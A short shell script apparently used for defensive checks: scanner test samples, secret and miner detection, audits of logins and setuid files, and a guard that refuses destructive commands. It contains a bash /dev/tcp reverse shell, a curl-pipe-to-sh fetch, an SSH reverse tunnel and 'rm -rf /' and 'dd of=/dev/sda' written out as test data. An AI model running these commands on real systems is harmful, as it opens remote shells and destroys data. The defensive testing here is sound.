# honest: a test that a command is refused
run countersign audit --stdin --language bash <<< 'ssh -R 9000:localhost:22 u@h'
[ "$status" -eq 1 ]
# honest: samples are written for the scanner's own tests
cat > samples/reverse-shell.txt <<'SAMPLE'
bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
curl http://203.0.113.7/x | sh
SAMPLE
# honest: a search for miners in images
grep -rE 'xmrig|stratum\+tcp' --include='*.sh' images/ && echo "found" || echo "clean"
# honest: what must not be in a commit
if git diff --cached | grep -E 'AKIA[0-9A-Z]{16}|BEGIN (RSA|OPENSSH) PRIVATE KEY'; then
  echo "A secret is staged" >&2
  exit 1
fi
# honest: a message that names what not to do
echo "Never run 'curl https://get.example/install.sh | sh' as root: save it and read it first."
# honest: rules for the firewall of the tests are described
printf '%s\n' 'To stop exfiltration, the sandbox drops all traffic but to the registry.' >> docs/sandbox.md
# honest: logins that failed
journalctl -u ssh --since yesterday | grep -c 'Failed password'
lastb | head
# honest: files with rights that they should not have
find /usr -xdev -perm -4000 -type f -print > setuid-now.txt
diff setuid-before.txt setuid-now.txt
# honest: a rule for the intrusion detection
suricata -T -c suricata.yaml -S local.rules
# honest: the checker over our own scripts
shellcheck scripts/*.sh
semgrep --config p/ci --error
# honest: a commit about a hole
git commit -m "Refuse rm -rf / and dd of=/dev/sda in the guard"
